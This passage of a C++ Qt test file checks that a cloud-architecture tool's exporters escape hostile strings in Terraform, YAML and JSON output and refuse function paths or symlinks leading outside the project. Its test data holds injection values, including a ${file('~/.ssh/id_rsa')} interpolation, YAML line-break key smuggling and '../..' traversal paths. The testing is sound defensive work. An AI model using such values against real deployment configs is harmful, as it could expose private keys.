    QVERIFY(!written.errorMessage().isEmpty());
    QVERIFY(!Scaffold::ensure(project, fn));
    QCOMPARE(snapshot({"dl/evil/a/b/functions/fn"}), before);
}

// ---- escaping in every format ----

void tst_SecurityPaths::hclEscapesUserStrings()
{
    const QString root = home("w/proj");
    const QString name = QStringLiteral("fn${file(\"~\")}%{x}");
    writeProject(root + "/project.json",
                 QJsonArray{QJsonArray{name, "function",
                                       QJsonObject{{"source", "functions/${file(\"~/.ssh/id_rsa\")}"},
                                                   {"description", kHostile},
                                                   {"environment",
                                                    QJsonArray{QJsonObject{{"name", "EVIL"}, {"value", kHostile}},
                                                               QJsonObject{{"name", "X = 1 }\n#"}, {"value", "v"}}}}}},
                            QJsonArray{"jobs", "queue", QJsonObject()}});
    Project project(Catalog::builtin());
    ProjectFile file;
    QVERIFY(file.load(root + "/project.json", project));
    QVERIFY(project.connectNodes(project.architecture().nodeByName("jobs")->id,
                                 project.architecture().nodeByName(name)->id, "invokes"));
    const ExportOutput output = ExportJob::prepare(*mRegistry->exporter("terraform"), nullptr,
                                                   ExportJob::input(project, "terraform", {}));
    const ExportFile *main = output.file("main.tf");
    QVERIFY(main);
    const QStringList strings = hclStrings(main->content);
    // Terraform reads the user's values back as text...
    QVERIFY2(strings.contains(kHostile), main->content.constData());
    QVERIFY2(strings.contains("<interp:path.module>/functions/${file(\"~/.ssh/id_rsa\")}"), main->content.constData());
    QVERIFY2(strings.contains("<interp:var.name_prefix>-" + name), main->content.constData());
    QVERIFY2(strings.contains("X = 1 }\n#"), main->content.constData());
    // ...and the only interpolations are the exporter's own.
    static const QRegularExpression own(QStringLiteral("^<interp:(path\\.module|var\\.name_prefix|aws_[a-z0-9_.]+)>"));
    for (const QString &s : strings) {
        QVERIFY2(!s.contains(QLatin1String("<raw line break")), main->content.constData());
        QString rest = s;
        for (int at = rest.indexOf(QLatin1String("<interp:")); at >= 0; at = rest.indexOf(QLatin1String("<interp:"))) {
            QVERIFY2(own.match(rest.mid(at)).hasMatch(), qPrintable(s));
            rest = rest.mid(rest.indexOf(QLatin1Char('>'), at) + 1);
        }
    }
    QVERIFY(!main->content.contains("\nresource \"evil\""));

    // The writer itself.
    QCOMPARE(HclValue::string("${a} %{b} $${c}").write(0), QByteArray("\"$${a} %%{b} $$${c}\""));
    QCOMPARE(HclValue::templateString("${path.module}/" + HclValue::literal("${x}%{y}")).write(0),
             QByteArray("\"${path.module}/$${x}%%{y}\""));
    QCOMPARE(HclValue::string(QStringLiteral("a\r\n\u0001\"\\")).write(0), QByteArray("\"a\\r\\n\\u0001\\\"\\\\\""));
}

void tst_SecurityPaths::yamlScalarsReadBack_data()
{
    QTest::addColumn<QString>("value");
    QTest::newRow("interpolation") << "${file(\"~/.ssh/id_rsa\")}";
    QTest::newRow("directive") << "%{ if true }";
    QTest::newRow("mapping") << "a: b";
    QTest::newRow("quotes") << "\"q\" 'q'";
    QTest::newRow("comment") << "x # y";
    QTest::newRow("line break, no final one") << "x\n  injected: true";
    QTest::newRow("two final line breaks") << "x\n\n";
    QTest::newRow("leading blank") << "  lead\nx\n";
    QTest::newRow("CR") << "a\r  injected: true";
    QTest::newRow("CRLF") << "a\r\nb\r\n";
    QTest::newRow("NEL") << QStringLiteral("a\u0085injected: true");
    QTest::newRow("line separator") << QStringLiteral("a\u2028injected: true");
    QTest::newRow("NUL") << QStringLiteral("a") + QChar(0) + QStringLiteral("b");
    QTest::newRow("hostile") << kHostile;
    QTest::newRow("plain code block") << "line one\n  line two\n";
}

void tst_SecurityPaths::yamlScalarsReadBack()
{
    QFETCH(QString, value);
    YAML::Node root(YAML::NodeType::Map);
    root["k"] = Yaml::string(value);
    root["after"] = Yaml::string("1");
    const QByteArray text = Yaml::dump(root);
    // Other parsers (PyYAML, js-yaml) break lines at CR, NEL and U+2028 too.
    for (const char *raw : {"\r", "\xc2\x85", "\xe2\x80\xa8", "\xef\xbb\xbf"})
        QVERIFY2(!text.contains(raw), text.constData());
    const Result<YAML::Node> back = Yaml::load(text, "test");
    QVERIFY2(back, qPrintable(back.errorMessage()));
    QCOMPARE(Yaml::text(Yaml::child(*back, "k")), value);
    QCOMPARE(Yaml::text(Yaml::child(*back, "after")), QStringLiteral("1"));
    QCOMPARE(int(back->size()), 2);
}

void tst_SecurityPaths::exportersEscapeHostileStrings_data()
{
    QTest::addColumn<QString>("target");
    for (const QString &target : kTargets)
        if (target != QLatin1String("terraform"))
            QTest::newRow(qPrintable(target)) << target;
}

void tst_SecurityPaths::exportersEscapeHostileStrings()
{
    QFETCH(QString, target);
    const QString root = home("w/proj");
    QDir().mkpath(root + "/functions/fn");
    QVERIFY(writeAll(root + "/functions/fn/index.mjs", "export const handler = async () => 1;\n"));
    writeProject(root + "/project.json",
                 QJsonArray{QJsonArray{"fn", "function",
                                       QJsonObject{{"description", kHostile},
                                                   {"environment",
                                                    QJsonArray{QJsonObject{{"name", "EVIL"}, {"value", kHostile}}}}}},
                            QJsonArray{"jobs", "topic", QJsonObject()}});
    Project project(Catalog::builtin());
    ProjectFile file;
    QVERIFY(file.load(root + "/project.json", project));
    QVERIFY(project.connectNodes(project.architecture().nodeByName("jobs")->id,
                                 project.architecture().nodeByName("fn")->id, "invokes"));
    const ExportOutput output = ExportJob::prepare(*mRegistry->exporter(target), nullptr,
                                                   ExportJob::input(project, target, {}));
    bool found = false;
    for (const ExportFile &f : output.files) {
        if (f.isCopy())
            continue;
        QStringList values;
        if (f.path.endsWith(".yaml") || f.path.endsWith(".yml")) {
            for (const char *raw : {"\r", "\xc2\x85", "\xe2\x80\xa8"})
                QVERIFY2(!f.content.contains(raw), qPrintable(f.path));
            try {
                for (const YAML::Node &doc : YAML::LoadAll(f.content.toStdString()))
                    collectScalars(doc, &values);
            } catch (const YAML::Exception &e) {
                QFAIL(qPrintable(f.path + ": " + QString::fromStdString(e.what())));
            }
        } else if (f.path.endsWith(".json")) {
            QJsonParseError parseError;
            const QJsonDocument doc = QJsonDocument::fromJson(f.content, &parseError);
            QVERIFY2(parseError.error == QJsonParseError::NoError, qPrintable(f.path));
            collectJsonStrings(doc.isObject() ? QJsonValue(doc.object()) : QJsonValue(doc.array()), &values);
        } else {
            continue;
        }
        QVERIFY2(!values.contains("injected"), qPrintable(f.path));
        found = found || values.contains(kHostile);
    }
    QVERIFY2(found, qPrintable(target + ": the value did not read back unchanged from any file"));
    // The Serverless Framework would resolve ${file(...)} at deploy time: the user is told.
    if (target == QLatin1String("serverless") || target == QLatin1String("scaleway")) {
        const bool warned = std::any_of(output.diagnostics.cbegin(), output.diagnostics.cend(),
                                        [](const Diagnostic &d) {
            return d.code == QLatin1String("export-deploy-variable") && d.message.contains(QLatin1String("EVIL"));
        });
        QVERIFY2(warned, qPrintable(target));
    }
}

QTEST_GUILESS_MAIN(tst_SecurityPaths)
void tst_SecurityPaths::functionsRunOnlyTheirOwnCode_data()
{
    QTest::addColumn<QString>("source");
    QTest::addColumn<bool>("runs");
    QTest::newRow("own folder") << "functions/fn" << true;
    QTest::newRow("parent") << "../.." << false;
    QTest::newRow("absolute") << "/etc" << false;
    QTest::newRow("hidden climb") << "functions/../../x" << false;
}

// A function of a stranger's project is never run from outside the project's folder.
void tst_SecurityPaths::functionsRunOnlyTheirOwnCode()
{
    QFETCH(QString, source);
    QFETCH(bool, runs);
    QTemporaryDir dir;
    Project project(Catalog::builtin());
    project.setWorkingDirectory(dir.path());
    const NodeId fn = project.addNode(QStringLiteral("function"), {}, QStringLiteral("fn")).valueOr(kInvalidNodeId);
    QVERIFY(project.setNodeProperty(fn, QStringLiteral("source"), source));
    const Result<FunctionSpec> spec = FunctionSpec::fromNode(project, fn);
    QCOMPARE(spec.hasValue(), runs);
    if (!runs)
        QVERIFY2(spec.errorMessage().contains(QLatin1String("fn: the source folder")), qPrintable(spec.errorMessage()));
    else
        QCOMPARE(spec->sourceDirectory, QDir(dir.path()).filePath(source));
}

// The studio keeps a function's spec between runs (FunctionRunner's cache): a source
// folder swapped for a link leading out of the project after a run is refused when the
// next worker starts, not followed until something else changes.
void tst_SecurityPaths::folderSwappedForALinkIsRefusedAtTheNextStart()
{
    if (QStandardPaths::findExecutable(QStringLiteral("node")).isEmpty())
        QSKIP("node is not installed");
    QTemporaryDir dir;
    QTemporaryDir outside;
    QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("functions/fn")));
    QVERIFY(
        writeAll(dir.filePath(QStringLiteral("functions/fn/index.js")), "exports.handler = async () => 'inside';\n"));
    QVERIFY(writeAll(outside.filePath(QStringLiteral("index.js")), "exports.handler = async () => 'outside';\n"));
    Project project(Catalog::builtin());
    project.setWorkingDirectory(dir.path());
    const NodeId fn = project.addNode(QStringLiteral("function"), {}, QStringLiteral("fn")).valueOr(kInvalidNodeId);
    FunctionRunner runner;
    runner.setProject(&project);
    runner.pool()->setSparesEnabled(false);
    QSignalSpy finished(&runner, &FunctionRunner::finished);
    QVERIFY(runner.invoke(fn, "{}"));
    QVERIFY(finished.wait(20000));
    InvocationResult first = finished.takeFirst().at(1).value<InvocationResult>();
    QVERIFY2(first.ok, first.error.value(QStringLiteral("errorMessage")).toString().toUtf8().constData());
    QCOMPARE(first.resultJson, QByteArray("\"inside\""));

    runner.pool()->stopAll();
    QVERIFY(QDir(dir.filePath(QStringLiteral("functions/fn"))).removeRecursively());
    QVERIFY(QFile::link(outside.path(), dir.filePath(QStringLiteral("functions/fn"))));
    const Result<QString> started = runner.invoke(fn, "{}");
    QString error = started.errorMessage();
    if (started) {
        QVERIFY(finished.wait(20000));
        const InvocationResult second = finished.takeFirst().at(1).value<InvocationResult>();
        QVERIFY2(!second.ok, second.resultJson.constData());
        error = second.error.value(QStringLiteral("errorMessage")).toString();
    }
    QVERIFY2(error.contains(QLatin1String("fn: the source folder")) && error.contains(QLatin1String("refused")),
             qPrintable(error));
    runner.pool()->stopAll();
}

#include "tst_security_paths.moc"
